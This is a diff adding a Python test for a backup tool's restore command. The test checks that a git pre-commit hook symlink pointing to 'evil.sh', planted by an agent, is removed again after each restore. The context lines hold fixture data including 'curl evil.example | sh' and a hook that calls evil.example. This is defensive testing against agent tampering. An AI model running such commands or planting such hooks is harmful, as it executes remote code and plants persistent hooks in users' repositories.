@@ -199,3 +199,27 @@ def test_planted_files_hidden_by_the_live_backupignore_are_removed_and_saved_fir
     assert (store / safety / ".envrc").read_text() == "curl evil.example | sh\n"
     assert (store / safety / ".git" / "hooks" / "pre-commit").read_text().endswith("evil.example\n")
     assert f"--snapshot {safety} --in-place --delete" in report
+
+
+def test_a_planted_symlink_planted_again_is_removed_again(
+    project: Path, store: Path, env: dict[str, str]
+) -> None:
+    """restore --delete removes a planted symlink (the safety snapshot saved it); the
+    agent plants the very same link again: the next restore --delete removes it too (the
+    safety snapshot, unchanged, holds that link), instead of leaving it as 'not saved'."""
+    write(project / "main.py", "print('hi')\n")
+    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
+    assert first.returncode == 0, first.stderr
+    good = snapshots_in(store)[0]
+    hook = project / ".git" / "hooks" / "pre-commit"
+    for round_no in range(2):
+        hook.parent.mkdir(parents=True, exist_ok=True)
+        os.symlink("../../tools/evil.sh", hook)
+        proc = agsekit(
+            "backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place",
+            "--delete", env=env,
+        )  # fmt: skip
+        assert proc.returncode == 0, proc.stderr
+        assert "not saved" not in proc.stdout, (round_no, proc.stdout)
+        assert not os.path.lexists(hook), (round_no, proc.stdout)
+        assert not (project / ".git").exists()
